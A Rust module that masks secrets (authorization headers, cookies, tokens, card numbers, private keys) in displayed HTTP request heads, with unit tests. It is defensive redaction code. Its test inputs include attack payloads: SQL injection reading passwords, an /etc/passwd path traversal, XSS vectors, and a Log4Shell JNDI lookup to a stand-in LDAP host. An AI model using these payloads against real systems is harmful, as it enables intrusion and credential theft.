//! Keeps secrets out of what is shown of requests: credentials in header fields, cookies and parameters.

use std::fmt::Write as _;

/// What stands for a secret.
pub(super) const MASK: &str = "***";

/// Header fields whose value is a secret, beside those whose names say so.
const FIELDS: [&str; 5] = [
    "x-amz-security-token",
    "x-forwarded-client-cert",
    // A dashboard's token.
    "sec-websocket-protocol",
    "saml",
    "dpop",
];

/// Words in the names of parameters, cookies and header fields whose value is a secret.
const WORDS: [&str; 14] = [
    "pass",
    "pwd",
    "secret",
    "token",
    "session",
    "sessid",
    "apikey",
    "api_key",
    "api-key",
    "auth",
    "credential",
    "signature",
    "private",
    "saml",
];

/// Whole names, which are too short to look for in others.
const NAMES: [&str; 10] = [
    "sig", "key", "code", "jwt", "sid", "otp", "pin", "cvv", "ssn", "state",
];

/// Whether what has this name is a secret.
#[must_use]
pub(super) fn is_secret(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    WORDS.iter().any(|word| name.contains(word)) || NAMES.contains(&name.as_str())
}

/// Whether the value of this header field is.
pub(super) fn is_secret_field(name: &str) -> bool {
    let name = name.trim().to_ascii_lowercase();
    is_secret(&name) || name.contains("key") || name.contains("cookie") || FIELDS.contains(&name.as_str())
}

/// Whether a whole line of a head, or a part of one, may have a secret in it. A request line is no field: it has a space before a colon.
pub(super) fn is_secret_line(line: &str) -> bool {
    // One that goes on with the value before it.
    if line.starts_with([' ', '\t']) || line.starts_with("\\t") {
        return true;
    }
    let name = line.split_once(':').map(|(name, _)| name.trim_end());
    name.is_some_and(|name| !name.contains(' ') && is_secret_field(name))
}

/// Digits of a card's number.
const CARD: std::ops::RangeInclusive<usize> = 13..=19;
/// So many digits that touch the edge of a text may be the rest of one.
const CUT_CARD: usize = 9;
/// Characters of a key that somebody was given. Shorter ones are words and numbers as well.
const KEY: usize = 16;

/// Whether a text holds what looks like a secret, whatever its name: something of [`holds_credential`], or a key.
pub(super) fn holds_secret(text: &str) -> bool {
    let is_of_key = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '/' | '=');
    holds_credential(text) || cards(text).any(|card| card.is_cut) || text.split(|c| !is_of_key(c)).any(is_key)
}

/// Whether a text holds a JSON Web Token (RFC 7519), a private key, or the number of a card.
fn holds_credential(text: &str) -> bool {
    // `{"` in base64.
    let is_token = |behind: &str| {
        let is_of_token = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_');
        behind.find(|c| !is_of_token(c)).unwrap_or(behind.len()) >= 8
    };
    text.contains("PRIVATE KEY")
        || text
            .match_indices("eyJ")
            .any(|(at, found)| is_token(&text[at + found.len()..]))
        || cards(text).any(|card| card.is_whole)
}

/// Digits that stand together, with or without spaces and dashes between them.
struct Digits {
    /// The number of a card (ISO/IEC 7812).
    is_whole: bool,
    /// What may be the rest of one, as they touch the edge of a text that was cut out.
    is_cut: bool,
}

fn cards(text: &str) -> impl Iterator<Item = Digits> {
    let text = text.trim_end_matches('…');
    let is_number = |c: char| c.is_ascii_digit() || matches!(c, ' ' | '-');
    let mut at = 0;
    text.split_inclusive(move |c| !is_number(c)).map(move |piece| {
        let number = piece.trim_end_matches(|c| !is_number(c));
        let (from, end) = (at, at + number.len());
        at += piece.len();
        let digits: Vec<_> = number
            .bytes()
            .filter(u8::is_ascii_digit)
            .map(|digit| digit - b'0')
            .collect();
        Digits {
            is_whole: CARD.contains(&digits.len()) && is_checked(&digits),
            is_cut: digits.len() >= CUT_CARD && (from == 0 || end == text.len()),
        }
    })
}

/// Whether the last digit checks the others (Luhn's formula).
fn is_checked(digits: &[u8]) -> bool {
    let sum: u32 = digits
        .iter()
        .rev()
        .enumerate()
        .map(|(i, digit)| match u32::from(*digit) << (i % 2) {
            doubled if doubled > 9 => doubled - 9,
            digit => digit,
        })
        .sum();
    sum.is_multiple_of(10)
}

/// Whether capitals, small letters and digits take turns as in nothing that people write.
fn is_key(run: &str) -> bool {
    let class = |byte: &u8| match byte {
        b'0'..=b'9' => Some(0),
        b'a'..=b'z' => Some(1),
        b'A'..=b'Z' => Some(2),
        _ => None,
    };
    let classes: Vec<_> = run.as_bytes().iter().filter_map(class).collect();
    let digits = classes.iter().filter(|class| **class == 0).count();
    let turns = classes.windows(2).filter(|pair| pair[0] != pair[1]).count();
    classes.len() >= KEY && digits >= 2 && turns * 4 >= classes.len()
}

/// The start of a request's head for people to read: escaped, a line each, without secrets.
#[must_use]
pub(super) fn mask_head(head: &[u8]) -> String {
    let mut shown = String::with_capacity(head.len());
    let mut lines = head.split(|byte| *byte == b'\n');
    let line = lines.next().unwrap_or_default();
    shown.push_str(&mask_line(&escape(line.strip_suffix(b"\r").unwrap_or(line))));
    let mut in_secret = false;
    for line in lines {
        let line = line.strip_suffix(b"\r").unwrap_or(line);
        if line.is_empty() {
            break;
        }
        shown.push('\n');
        // RFC 9112 §5.2: such a line goes on with the value of the field before.
        if matches!(line[0], b' ' | b'\t') && in_secret {
            shown.push_str(MASK);
            continue;
        }
        in_secret = field(line, &mut shown);
    }
    shown
}

/// A request line without secrets in its target.
#[must_use]
pub(super) fn mask_line(line: &str) -> String {
    // What is behind the last space is the version; a line that was cut may have none.
    let (before, version) = match line.rsplit_once(' ') {
        Some((before, version)) if version.starts_with("HTTP/") => (before, Some(version)),
        _ => (line, None),
    };
    let mut shown = String::with_capacity(line.len());
    let mut rest = before;
    // `http://user:password@host/`
    if let Some((scheme, behind)) = rest.split_once("://")
        && !scheme.contains('?')
        && let Some(at) = behind
            .split(['/', '?'])
            .next()
            .and_then(|authority| authority.rfind('@'))
    {
        let _ = write!(shown, "{scheme}://{MASK}");
        rest = &behind[at..];
    }
    // Pairs stand between these, in a query, and in a path behind the first of them.
    let mut start = 0;
    for (at, separator) in rest.match_indices(['?', '&', ';']) {
        pair(&rest[start..at], &mut shown);
        shown.push_str(separator);
        start = at + separator.len();
    }
    pair(&rest[start..], &mut shown);
    if let Some(version) = version {
        let _ = write!(shown, " {version}");
    }
    shown
}

fn pair(text: &str, shown: &mut String) {
    match text.split_once('=') {
        Some((name, value)) if is_secret(name) || holds_credential(value) => {
            let _ = write!(shown, "{name}={MASK}");
        }
        _ => shown.push_str(text),
    }
}

/// Adds a header field. Returns whether its value was kept back.
fn field(line: &[u8], shown: &mut String) -> bool {
    let Some(colon) = line.iter().position(|byte| *byte == b':') else {
        shown.push_str(&escape(line));
        return false;
    };
    let (name, value) = (&line[..colon], escape(&line[colon + 1..]));
    let bare = String::from_utf8_lossy(name.trim_ascii()).to_ascii_lowercase();
    let name = escape(name);
    if bare == "cookie" {
        let _ = write!(shown, "{name}: ");
        for (i, cookie) in value.split(';').enumerate() {
            let separator = if i == 0 { "" } else { "; " };
            let name = cookie.split('=').next().unwrap_or_default().trim();
            let _ = write!(shown, "{separator}{name}={MASK}");
        }
        return true;
    }
    if is_secret_field(&bare) {
        // The scheme tells much, and gives nothing away.
        let scheme = value.trim_start().split_once(' ').map(|(scheme, _)| scheme);
        let scheme = scheme.filter(|scheme| bare.ends_with("authorization") && scheme.len() <= 16);
        let _ = match scheme {
            Some(scheme) => write!(shown, "{name}: {scheme} {MASK}"),
            None => write!(shown, "{name}: {MASK}"),
        };
        return true;
    }
    let value = if bare == "referer" {
        mask_line(&value)
    } else {
        value
    };
    let _ = write!(shown, "{name}:{value}");
    false
}

fn escape(bytes: &[u8]) -> String {
    bytes.escape_ascii().to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lines_that_may_hold_secrets_are_known() {
        for (line, expected) in [
            ("Cookie : sid=1", true),
            ("Authorization: Basic dTpw", true),
            (" and it goes on", true),
            ("Host: token.example", false),
            ("GET /?q=SELECT+password+FROM+users HTTP/1.2", false),
            ("GET http://x/?token=1 HTTP/1.2", false),
            ("GET / HTTP/1.1", false),
        ] {
            assert_eq!(is_secret_line(line), expected, "{line}");
        }
    }

    #[test]
    fn secrets_are_known_by_their_looks() {
        for (text, expected) in [
            ("4111111111111111", true),
            ("pay 4111 1111 1111 1111 now", true),
            ("pay 4111-1111-1111-1111 now", true),
            // Another check digit; an amount; a number that was cut by the match.
            ("pay 4111 1111 1111 1112 now", false),
            ("pay 1234567890 now", false),
            ("1111 1111 1111' or", true),
            ("md5(999999999)", false),
            ("a eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x' or", true),
            ("eyJ", false),
            ("-----BEGIN RSA PRIVATE KEY-----", true),
            ("ghp_16C7e42F292c6912E7710c838347Ae178B4a' or", true),
            ("AKIAIOSFODNN7EXAMPLE", false),
            ("id=550e8400-e29b-41d4-a716-446655440000", true),
            ("wJalrXUtn4EMI/K7MDENG/bPxRf1CY3XAMPLEKEY", true),
            ("1+UNION+SELECT+password+FROM+users2", false),
            ("../../../../../../etc/passwd%00.jpg", false),
            ("/wp-content/plugins/revslider-2024/temp/update_extract", false),
            ("String.fromCharCode(88,83,83)", false),
            ("<img src=x onerror=alert(1)>", false),
            ("${jndi:ldap://192.0.2.1:1389/a}", false),
            ("", false),
        ] {
            assert_eq!(holds_secret(text), expected, "{text}");
        }
    }

    #[test]
    fn secrets_are_kept_back_and_the_rest_is_shown() {
        for (head, shown) in [
            (
                "GET /a?b=c HTTP/1.1\r\nHost: x\r\n\r\n",
                "GET /a?b=c HTTP/1.1\nHost: x",
            ),
            (
                "GET /?user=u&password=p&x=1 HTTP/1.1\r\n",
                "GET /?user=u&password=***&x=1 HTTP/1.1",
            ),
            ("GET /?access_token=t HTTP/1.1", "GET /?access_token=*** HTTP/1.1"),
            (
                "GET /?q=4111+&pay=4111-1111-1111-1111&t=eyJhbGciOiJIUzI1NiJ9.e30.x HTTP/1.1",
                "GET /?q=4111+&pay=***&t=*** HTTP/1.1",
            ),
            // Cut, or without a version.
            ("GET /?token=abc", "GET /?token=***"),
            ("GET /?token=a b c HTTP/1.1", "GET /?token=*** HTTP/1.1"),
            (
                "GET / HTTP/1.1\r\nAuthorization: Basic dTpw\r\n",
                "GET / HTTP/1.1\nAuthorization: Basic ***",
            ),
            (
                "GET / HTTP/1.1\r\nAUTHORIZATION:dTpw\r\n",
                "GET / HTTP/1.1\nAUTHORIZATION: ***",
            ),
            (
                "GET / HTTP/1.1\r\nX-Auth-Token : t\r\n",
                "GET / HTTP/1.1\nX-Auth-Token : ***",
            ),
            (
                "GET / HTTP/1.1\r\nCookie: a=1; b=2\r\n",
                "GET / HTTP/1.1\nCookie: a=***; b=***",
            ),
            (
                "GET / HTTP/1.1\r\nCookie: a=1;\r\n b=2\r\nHost: x",
                "GET / HTTP/1.1\nCookie: a=***; =***\n***\nHost: x",
            ),
            (
                "GET / HTTP/1.1\r\nReferer: http://x/?pwd=1&a=2\r\n",
                "GET / HTTP/1.1\nReferer: http://x/?pwd=***&a=2",
            ),
            (
                "GET /a;jsessionid=1/b?x=1;sig=2?key=3 HTTP/1.1",
                "GET /a;jsessionid=***?x=1;sig=***?key=*** HTTP/1.1",
            ),
            ("GET http://u:p@x/?a=1 HTTP/1.1", "GET http://***@x/?a=1 HTTP/1.1"),
            (
                "GET / HTTP/1.1\r\nCookie\t: a=1\r\n",
                "GET / HTTP/1.1\nCookie\\t: a=***",
            ),
            (
                "GET / HTTP/1.1\r\nX-Functions-Key: k\r\n",
                "GET / HTTP/1.1\nX-Functions-Key: ***",
            ),
            (
                "GET / HTTP/1.1\r\nSec-WebSocket-Protocol: p, bearer.t\r\n",
                "GET / HTTP/1.1\nSec-WebSocket-Protocol: ***",
            ),
            // Whatever the bytes.
            (
                "GET /\u{1}\u{e9} HTTP/1.1\nno field\r\n",
                "GET /\\x01\\xc3\\xa9 HTTP/1.1\nno field",
            ),
            ("", ""),
        ] {
            assert_eq!(mask_head(head.as_bytes()), shown);
        }
    }
}
